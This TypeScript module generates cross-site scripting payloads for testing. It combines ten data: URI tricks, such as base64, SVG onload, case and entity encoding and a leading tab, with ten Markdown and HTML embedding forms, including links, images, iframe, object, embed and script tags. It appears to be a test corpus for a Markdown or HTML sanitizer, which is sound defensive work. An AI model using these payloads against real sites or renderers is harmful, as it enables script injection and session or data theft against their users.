import { type Attack, pair } from '../payload.ts'

const addresses: readonly ((code: string) => string)[] = [
  code => `data:text/html,<script>${code}</script>`,
  code => `data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
  code => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  code => `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`)}`,
  code => `DATA:text/html;charset=utf-8,%3Cscript%3E${code}%3C/script%3E`,
  code => `data&colon;text/html,%3Cscript%3E${code}%3C/script%3E`,
  code => `data:text/javascript,${code}`,
  code => `data:,${code}`,
  code => `data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${code}</x:script>`,
  code => `&#9;data:text/html,%3Cimg src=x onerror=${code}%3E`,
]

const ways: readonly ((address: string, sign: string) => string)[] = [
  (address, sign) => `[${sign}](<${address}>)`,
  (address, sign) => `![${sign}](<${address}>)`,
  address => `<${address}>`,
  (address, sign) => `[${sign}]\n\n[${sign}]: <${address}>`,
  (address, sign) => `<a href="${address}">${sign}</a>`,
  address => `<iframe src="${address}"></iframe>`,
  address => `<object data="${address}"></object>`,
  address => `<embed src="${address}">`,
  address => `<script src="${address}"></script>`,
  address => `<img src="${address}">`,
]

export const dataAddresses: readonly Attack[] = pair(
  addresses,
  ways,
  (address, way): Attack =>
    (code, sign) =>
      way(address(code), sign),
)
